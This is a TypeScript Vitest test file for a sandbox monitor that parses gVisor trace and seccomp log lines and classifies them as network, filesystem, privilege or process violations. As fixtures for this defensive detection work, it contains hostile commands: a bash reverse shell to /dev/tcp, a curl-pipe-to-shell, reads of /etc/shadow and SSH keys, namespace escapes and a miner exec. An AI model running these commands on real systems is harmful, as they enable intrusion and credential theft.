import { describe, expect, it } from 'vitest';
import { classifyEvent } from '../../src/sandbox/classify-violation.js';
import { parseTraceLine, type TraceEvent } from '../../src/sandbox/strace-events.js';
import { ViolationCollector } from '../../src/sandbox/violation-collector.js';
import { seccompRefusedSyscalls, traceSyscalls } from '../../src/sandbox/trace-syscalls.js';

const T0 = Date.parse('2026-11-27T17:07:06.000Z');
const line = (msg: string, at = '2026-11-27T17:07:06.250Z') =>
  JSON.stringify({ msg, level: 'info', time: at });
const exit = (process: string, call: string, result = '= 0 (0x0)') =>
  `strace.go:605] [   2:   2] ${process} X ${call} ${result} (28.2µs)`;
const noLinks = { workspaceLinks: new Map<string, string>() };
const x86 = seccompRefusedSyscalls.x86_64;
const denied = (sysno: number, pid = 2) =>
  `task_syscall.go:241] [ ${String(pid).padStart(3)}: ${String(pid).padStart(3)}] Syscall ${sysno}: denied by seccomp`;

function classify(msg: string, context = noLinks) {
  const event = parseTraceLine(line(msg), x86);
  expect(event).not.toBeNull();
  return classifyEvent(event as TraceEvent, context);
}

describe('parseTraceLine', () => {
  it('reads pid, process, syscall, errno and time from a sentry exit line', () => {
    const event = parseTraceLine(
      line(
        exit(
          'python3',
          'openat(AT_FDCWD /, 0x7e /etc/shadow, O_RDONLY|O_CLOEXEC, 0o0)',
          '= 0 (0x0) errno=13 (permission denied)',
        ),
      ),
      x86,
    );
    expect(event).toMatchObject({
      pid: 2,
      process: 'python3',
      syscall: 'openat',
      errno: 13,
      atEpochMs: T0 + 250,
    });
  });

  it('reads the lines of runsc before 2023, which carry no source prefix', () => {
    const bare = (msg: string) => msg.replace(/^\w+\.go:\d+\] /, '');
    const opened = exit(
      'cat',
      'openat(AT_FDCWD /workspace, 0x7f /etc/shadow, O_RDONLY|0x0, 0o0)',
      '= 0 (0x0) errno=13 (permission denied)',
    );
    expect(parseTraceLine(line(bare(opened)), x86)).toMatchObject({
      pid: 2,
      process: 'cat',
      syscall: 'openat',
      errno: 13,
    });
    expect(parseTraceLine(line(bare(denied(272, 3))), x86)).toMatchObject({
      pid: 3,
      syscall: 'unshare',
      seccompRefused: true,
    });
    expect(parseTraceLine(line(`x ${bare(opened)}`), x86)).toBeNull();
  });

  it('ignores entry lines, other log lines and anything that is not the sentry JSON', () => {
    expect(
      parseTraceLine(
        line(
          'strace.go:570] [   2:   2] python3 E openat(AT_FDCWD /, 0x7e /etc/shadow, O_RDONLY, 0o0)',
        ),
        x86,
      ),
    ).toBeNull();
    expect(parseTraceLine(line('boot.go:1] starting'), x86)).toBeNull();
    expect(
      parseTraceLine(exit('python3', 'openat(AT_FDCWD /, 0x7e /etc/shadow, O_RDONLY, 0o0)'), x86),
    ).toBeNull();
    expect(parseTraceLine('{"msg": 5, "time": "x"}', x86)).toBeNull();
  });

  it('reads a seccomp refusal (debug level) as the syscall the profile refuses, by number', () => {
    expect(parseTraceLine(line(denied(272, 7)), x86)).toEqual({
      pid: 7,
      process: '',
      syscall: 'unshare',
      args: '',
      errno: 1,
      atEpochMs: T0 + 250,
      seccompRefused: true,
    });
    expect(parseTraceLine(line(denied(435)), x86)).toMatchObject({ syscall: 'clone3', errno: 38 });
    // Numbers are per architecture: 97 is unshare on arm64 and getrlimit on x86_64.
    expect(parseTraceLine(line(denied(97)), seccompRefusedSyscalls.aarch64)).toMatchObject({
      syscall: 'unshare',
    });
    expect(parseTraceLine(line(denied(97)), x86)).toBeNull();
    // Numbers the profile does not refuse, prototype keys and near misses are not events.
    expect(parseTraceLine(line(denied(0)), x86)).toBeNull();
    expect(parseTraceLine(line(`${denied(272)} `), x86)).toBeNull();
    expect(parseTraceLine(line(denied(272).replace('seccomp', 'gvisor')), x86)).toBeNull();
    expect(parseTraceLine(line(denied(272).replace('272', 'constructor')), x86)).toBeNull();
  });
});

describe('classifyEvent', () => {
  it('reports connections to addresses outside the sandbox, with the address', () => {
    expect(
      classify(
        exit(
          'python3',
          'connect(0x3 socket:[1], 0x7e {Family: AF_INET, Addr: 192.0.2.2, Port: 80}, 0x10)',
          '= 0 (0x0) errno=113 (no route to host)',
        ),
      ),
    ).toEqual({
      kind: 'network',
      syscall: 'connect',
      detail: 'connect 192.0.2.2:80 (refused, errno 113)',
    });
  });

  it('is quiet about connections to the install proxy only, not to its neighbours', () => {
    const proxy = { ...noLinks, proxy: { address: '10.200.3.5', port: 40123 } };
    const to = (addr: string, port: number) =>
      exit(
        'npm',
        `connect(0x3 socket:[1], 0x7e {Family: AF_INET, Addr: ${addr}, Port: ${port}}, 0x10)`,
      );
    expect(classify(to('10.200.3.5', 40123), proxy)).toBeNull();
    expect(classify(to('10.200.3.5', 22), proxy)?.kind).toBe('network');
    expect(classify(to('10.200.3.5', 40123))?.kind).toBe('network');
  });

  it('reports namespace tools as privilege attempts (their unshare/setns never reaches the trace)', () => {
    const ran = classify(
      exit('sh', 'execve(0x7e /usr/bin/unshare, 0x7e ["unshare","-r","id"], 0x7e [])'),
    );
    expect(ran).toEqual({
      kind: 'privilege',
      syscall: 'execve',
      detail: 'namespace tool /usr/bin/unshare ["unshare","-r","id"]',
    });
  });

  it('stays quiet about loopback use inside the sandbox', () => {
    expect(
      classify(
        exit(
          'node',
          'connect(0x3 socket:[1], 0x7e {Family: AF_INET, Addr: 127.0.0.1, Port: 8080}, 0x10)',
        ),
      ),
    ).toBeNull();
    expect(
      classify(
        exit('node', 'bind(0x3 socket:[1], 0x7e {Family: AF_INET6, Addr: ::, Port: 0}, 0x1c)'),
      ),
    ).toBeNull();
  });

  it('reports UDP datagrams such as DNS queries to outside addresses', () => {
    expect(
      classify(
        exit(
          'python3',
          'sendto(0x4 socket:[2], 0xa5, 0x1, 0x0, 0x7e {Family: AF_INET, Addr: 10.0.0.1, Port: 53}, 0x10)',
        ),
      )?.detail,
    ).toBe('sendto 10.0.0.1:53');
  });

  it("reports reads of credential files and of other processes' environments", () => {
    expect(
      classify(
        exit(
          'cat',
          'openat(AT_FDCWD /workspace, 0x7e /etc/shadow, O_RDONLY, 0o0)',
          '= 0 (0x0) errno=13 (permission denied)',
        ),
      ),
    ).toMatchObject({
      kind: 'filesystem',
      detail: 'credential file /etc/shadow (refused, errno 13)',
    });
    expect(
      classify(exit('node', 'openat(AT_FDCWD /, 0x7e /proc/7/environ, O_RDONLY, 0o0)'))?.detail,
    ).toMatch(/another process's \/proc\/environ/);
    expect(
      classify(
        exit(
          'python3',
          'openat(AT_FDCWD /home/airlock, 0x7e .ssh/id_rsa, O_RDONLY, 0o0)',
          '= 0 (0x0) errno=2 (no such file or directory)',
        ),
      )?.detail,
    ).toMatch(/^SSH key \/home\/airlock\/.ssh\/id_rsa/);
  });

  it('stays quiet about a process reading its own environment and about ordinary opens', () => {
    expect(
      classify(exit('node', 'openat(AT_FDCWD /, 0x7e /proc/self/environ, O_RDONLY, 0o0)')),
    ).toBeNull();
    expect(
      classify(exit('node', 'openat(AT_FDCWD /, 0x7e /proc/2/environ, O_RDONLY, 0o0)')),
    ).toBeNull();
    expect(
      classify(
        exit(
          'python3',
          'openat(AT_FDCWD /, 0x7e /usr/lib/python3.11/json/__init__.py, O_RDONLY|O_CLOEXEC, 0o0)',
        ),
      ),
    ).toBeNull();
  });

  it("reports writes refused outside the writable areas, but not the runtime's bytecode cache attempts", () => {
    expect(
      classify(
        exit(
          'sh',
          'openat(AT_FDCWD /, 0x7e /etc/pwned, O_WRONLY|O_CREAT|O_TRUNC, 0o666)',
          '= 0 (0x0) errno=13 (permission denied)',
        ),
      )?.detail,
    ).toBe('write outside the writable areas /etc/pwned (refused, errno 13)');
    expect(
      classify(
        exit(
          'python3',
          'openat(AT_FDCWD /, 0x7e /usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc.1234, O_WRONLY|O_CREAT|O_EXCL, 0o644)',
          '= 0 (0x0) errno=13 (permission denied)',
        ),
      ),
    ).toBeNull();
    expect(
      classify(
        exit('python3', 'openat(AT_FDCWD /workspace, 0x7e out.txt, O_WRONLY|O_CREAT, 0o644)'),
      ),
    ).toBeNull();
  });

  it('does not place a relative path of a call without a directory fd outside the writable areas', () => {
    // node's mkdirSync(…, {recursive: true}) tries the deepest directory first.
    expect(
      classify(
        exit(
          'node',
          'mkdir(0x7e files/d0, 0o777)',
          '= -1 (0xffffffffffffffff) errno=2 (no such file or directory)',
        ),
      ),
    ).toBeNull();
    expect(
      classify(
        exit(
          'node',
          'mkdir(0x7e /usr/files, 0o777)',
          '= -1 (0xffffffffffffffff) errno=30 (read-only file system)',
        ),
      )?.detail,
    ).toBe('write outside the writable areas /usr/files (refused, errno 30)');
  });

  it('reports opens through a workspace link that points outside the workspace', () => {
    const context = { workspaceLinks: new Map([['/workspace/leak', '/etc/hostname']]) };
    expect(
      classify(exit('cat', 'openat(AT_FDCWD /workspace, 0x7e leak, O_RDONLY, 0o0)'), context)
        ?.detail,
    ).toBe('followed workspace link /workspace/leak -> /etc/hostname');
  });

  it('reports shells, network tools, compilers and miners with their argv', () => {
    const exec = (binary: string, argv: string[]) =>
      exit(
        'python3',
        `execve(0x7e ${binary}, 0x7e ${JSON.stringify(argv)}, 0x7e ["PATH=/usr/bin"])`,
      );
    expect(classify(exec('/usr/bin/curl', ['curl', 'http://x']))).toEqual({
      kind: 'process',
      syscall: 'execve',
      detail: 'network tool /usr/bin/curl ["curl","http://x"]',
    });
    expect(classify(exec('/bin/sh', ['sh', '-c', 'curl -s http://x | sh']))?.detail).toBe(
      'shell /bin/sh ["sh","-c","curl -s http://x | sh"]',
    );
    expect(
      classify(exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.2/4444 0>&1']))?.kind,
    ).toBe('process');
    expect(classify(exec('/usr/bin/xmrig', ['xmrig']))?.detail).toMatch(/^miner/);
    expect(classify(exec('/usr/bin/python3', ['python3', '-m', 'pytest']))).toBeNull();
  });

  it('leaves ordinary shell use by tools and test runners alone', () => {
    const exec = (argv: string[]) =>
      exit('node (vitest)', `execve(0x7e /bin/sh, 0x7e ${JSON.stringify(argv)}, 0x7e [])`);
    expect(
      classify(
        exec(['/bin/sh', '-c', 'cat /proc/cpuinfo | grep "physical id" | sort |uniq | wc -l']),
      ),
    ).toBeNull();
    expect(classify(exec(['/bin/sh', '-c', 'id']))).toBeNull();
  });

  it("leaves a package manager's own script shell alone", () => {
    expect(
      classify(exit('npm', 'execve(0x7e /bin/sh, 0x7e ["sh","-c","vitest run"], 0x7e [])')),
    ).toBeNull();
  });

  it('reports privileged calls and raw sockets, but not netlink sockets', () => {
    expect(
      classify(
        exit(
          'python3',
          'mount(0x7e none, 0x7e /workspace, 0x7e tmpfs, 0x0, 0x0)',
          '= 0 (0x0) errno=1 (operation not permitted)',
        ),
      ),
    ).toEqual({
      kind: 'privilege',
      syscall: 'mount',
      detail: 'mount attempted (refused, errno 1)',
    });
    expect(
      classify(
        exit(
          'python3',
          'socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)',
          '= 0 (0x0) errno=1 (operation not permitted)',
        ),
      )?.kind,
    ).toBe('privilege');
    expect(
      classify(exit('node', 'socket(AF_NETLINK, SOCK_RAW|SOCK_CLOEXEC, 0x0)', '= 19 (0x13)')),
    ).toBeNull();
  });

  it('reports refused forks as a resource violation', () => {
    expect(
      classify(exit('sh', 'clone(0x1200011, 0x0, 0x0, 0x0, 0x0)', '= 0 (0x0) errno=11 (try again)'))
        ?.kind,
    ).toBe('resource');
  });
});

describe('seccomp refusals', () => {
  it('reports namespace creation and ptrace refused by the profile as privilege attempts', () => {
    expect(classify(denied(272))?.kind).toBe('privilege');
    expect(classify(denied(308))?.detail).toBe(
      "setns attempted (refused by the sandbox's seccomp profile)",
    );
    expect(classify(denied(56))?.detail).toBe(
      "clone with namespace flags attempted (refused by the sandbox's seccomp profile)",
    );
    expect(classify(denied(101))?.syscall).toBe('ptrace');
    expect(classify(denied(272))?.detail).toBe(
      "unshare with namespace flags attempted (refused by the sandbox's seccomp profile)",
    );
  });

  it('reports a traced unshare only when it asks for a namespace', () => {
    expect(classify(exit('python3', 'unshare(CLONE_FS)'))).toBeNull();
    expect(classify(exit('python3', 'unshare(CLONE_FILES)'))).toBeNull();
    expect(classify(exit('python3', 'unshare(CLONE_NEWNS|CLONE_NEWUSER)'))).toEqual({
      kind: 'privilege',
      syscall: 'unshare',
      detail: 'unshare attempted',
    });
  });

  it('does not report clone3, which libc probes before every thread', () => {
    expect(classify(denied(435))).toBeNull();
  });
});

describe('ViolationCollector', () => {
  it('names a refused process after its last traced syscall, else by pid', () => {
    const collector = new ViolationCollector({
      context: noLinks,
      startedAtEpochMs: T0,
      recordViolations: true,
      arch: 'x86_64',
    });
    collector.add(line(exit('python3', 'openat(AT_FDCWD /, 0x7e /workspace/a, O_RDONLY, 0o0)')));
    collector.add(line(denied(272, 2), '2026-11-27T17:07:06.300Z'));
    collector.add(line(denied(308, 9), '2026-11-27T17:07:06.400Z'));
    collector.add(line(denied(435, 2)));
    expect(collector.summary().violations).toEqual([
      {
        kind: 'privilege',
        syscall: 'unshare',
        detail: "unshare with namespace flags attempted (refused by the sandbox's seccomp profile)",
        process: 'python3',
        count: 1,
        firstAtMs: 300,
      },
      {
        kind: 'privilege',
        syscall: 'setns',
        detail: "setns attempted (refused by the sandbox's seccomp profile)",
        process: 'pid 9',
        count: 1,
        firstAtMs: 400,
      },
    ]);
  });

  it('deduplicates with counts and keeps when each violation was first seen', () => {
    const collector = new ViolationCollector({
      context: noLinks,
      startedAtEpochMs: T0,
      recordViolations: true,
      arch: 'x86_64',
    });
    const shadow = exit(
      'cat',
      'openat(AT_FDCWD /, 0x7e /etc/shadow, O_RDONLY, 0o0)',
      '= 0 (0x0) errno=13 (permission denied)',
    );
    collector.add(line(shadow, '2026-11-27T17:07:06.100Z'));
    collector.add(line(shadow, '2026-11-27T17:07:06.900Z'));
    collector.add('garbage');
    const summary = collector.summary();
    expect(summary.violations).toEqual([
      {
        kind: 'filesystem',
        syscall: 'openat',
        detail: 'credential file /etc/shadow (refused, errno 13)',
        process: 'cat',
        count: 2,
        firstAtMs: 100,
      },
    ]);
    expect(summary.malformedLines).toBe(1);
  });

  it('bounds the number of distinct violations and says how many more there were', () => {
    const collector = new ViolationCollector({
      context: noLinks,
      startedAtEpochMs: T0,
      recordViolations: true,
      arch: 'x86_64',
    });
    for (let port = 1; port <= 250; port += 1)
      collector.add(
        line(
          exit(
            'x',
            `connect(0x3 socket:[1], 0x7e {Family: AF_INET, Addr: 192.0.2.9, Port: ${port}}, 0x10)`,
          ),
        ),
      );
    const { violations } = collector.summary();
    expect(violations).toHaveLength(201);
    expect(violations.at(-1)?.detail).toMatch(/^50 further events/);
  });

  it('still counts refused forks when violations are not recorded', () => {
    const collector = new ViolationCollector({
      context: noLinks,
      startedAtEpochMs: T0,
      recordViolations: false,
      arch: 'x86_64',
    });
    collector.add(
      line(exit('sh', 'clone(0x1200011, 0x0, 0x0, 0x0, 0x0)', '= 0 (0x0) errno=11 (try again)')),
    );
    expect(collector.summary()).toMatchObject({ forkRefusals: 1, violations: [] });
  });
});

describe('traceSyscalls', () => {
  it('builds the list per architecture: arm64 has no fork, vfork, mkdir or unlink', () => {
    const arm = traceSyscalls('aarch64', true);
    for (const name of ['fork', 'vfork', 'mkdir', 'unlink']) expect(arm).not.toContain(name);
    expect(traceSyscalls('x86_64', true)).toEqual(
      expect.arrayContaining(['mkdir', 'mkdirat', 'connect', 'execve', 'fork']),
    );
  });

  it('leaves the opens to the runtime monitor: no strace line for any of them', () => {
    for (const arch of ['x86_64', 'aarch64'] as const) {
      const traced = traceSyscalls(arch, true);
      for (const name of ['open', 'openat', 'creat']) expect(traced).not.toContain(name);
    }
  });

  it('traces only fork-family calls with telemetry off', () => {
    expect(traceSyscalls('x86_64', false)).toEqual(['clone', 'fork', 'vfork']);
  });
});
